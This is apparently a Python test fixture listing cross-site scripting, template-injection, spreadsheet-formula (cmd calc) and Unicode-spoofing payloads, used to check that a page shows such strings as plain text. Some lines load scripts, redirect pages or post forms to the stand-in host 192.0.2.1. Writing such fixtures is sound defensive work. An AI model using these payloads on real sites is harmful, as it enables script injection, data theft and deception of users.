"""Texts that would run, load or break out, if a page took them for anything but text.

Each one sets `window.ran`, shows a dialog or asks for something, so that a watched tab notices.
"""

from __future__ import annotations

import re

RUN = "window.ran=1;alert(1)"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<SCRIPT SRC=http://192.0.2.1/x.js></SCRIPT><ScRiPt>{RUN}</sCrIpT>",
    "script-end": f"</script><script>{RUN}</script>",
    "style-end": f"</style><script>{RUN}</script>",
    "title-end": f"</title></textarea><script>{RUN}</script>",
    "caption-end": f"</caption></th></td></table></figure><script>{RUN}</script>",
    "template-end": f"</template></noscript><script>{RUN}</script>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "comment-open": "<!-- the rest of the page is gone",
    "comment-script": f"<!--<script>{RUN}",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing": f"<?xml version='1.0'?><?php {RUN} ?>",
    "onerror": f"<img src=x onerror={RUN}>",
    "onerror-quoted": f'"><img src="x" onerror="{RUN}">',
    "onload": f"<body onload={RUN}><svg/onload={RUN}>",
    "ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "autofocus": f"<input autofocus onfocus={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={RUN}>x",
    "attribute": f'" onmouseover="{RUN}" x="',
    "attribute-single": f"' autofocus onfocus='{RUN}' tabindex='1",
    "attribute-bare": f"x onpointerenter={RUN} style=position:fixed;inset:0",
    "attribute-backtick": f"` onmouseover=`{RUN}`",
    "href": f'<a href="javascript:{RUN}">all cases</a>',
    "href-coded": '<a href="&#106;avascript:window.ran=1">all cases</a>',
    "link-markdown": f"[all cases](javascript:{RUN})",
    "image-markdown": "![cases](http://192.0.2.1/pixel.png)",
    "markdown": f"**bold** `code` <b>bold</b>\n\n# heading\n\n<script>{RUN}</script>",
    "svg": f"<svg><script>{RUN}</script><text>x</text></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg-end": f"</text></g></svg><script>{RUN}</script>",
    "mathml": f'<math><mtext></math><img src=x onerror={RUN}><a href="javascript:{RUN}">x</a>',
    "data": '<iframe src="data:text/html,<script>top.ran=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "base": '<base href="http://192.0.2.1/"><link rel=stylesheet href=x.css>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
    "form": '<form action="http://192.0.2.1/"><input name=q><button>Search</button></form>',
    "style": "<style>@import 'http://192.0.2.1/x.css';body{display:none}</style>",
    "template-jinja": "{{ 7*191 }}{% for x in range(9) %}{{ config }}{% endfor %}{# x #}",
    "template-other": "${7*191} #{7*191} <%= 7*191 %> {{constructor.constructor('alert(1)')()}}",
    "format": "{0} {caption} {x!r} %s %(x)s {",
    "formula": '=HYPERLINK("http://192.0.2.1/","all cases")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "entity": "&lt;script&gt; &amp;amp; &#x3c; &nbsp; &notanentity;",
    "entity-script": "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "latex": r"$\href{javascript:alert(1)}{x}$ \(\unicode{<img src=x onerror=alert(1)>}\)",
    "clobber": "<img name=getElementById><form id=q><input id=main></form>",
    "rtl": "abc\u202etxt.exe\u202c \u2066cba\u2069",
    "mark": "caf\u0065\u0301 \u200b\ufeff\u00a0x",
    "words": "<b>not bold</b> 5 < 6 & 7 > 6 \"double\" 'single'",
    "long": "very" * 1_000 + "<script>alert(1)</script>",
}
ODD = {
    "nul": "a\x00b<\x00script>alert(1)</script>",
    "control": "\x01\x08\x0b\x0c\x1b[31m\x7f<script>alert(1)</script>",
    "lines": f"a\r\nb\u2028c\u2029d\n<script>{RUN}</script>",
    "beyond": "\U0001f1f0\U0001f1ff \ufffe \U000e0041<script>alert(1)</script>",
}
"""Signs that cannot be shown as they are; nothing of them may run either."""


def as_seen(text: str) -> str:
    """Give a text as a browser shows it: runs of white space are one space."""
    return " ".join(part for part in re.split(r"[\s\ufeff]+", text) if part)
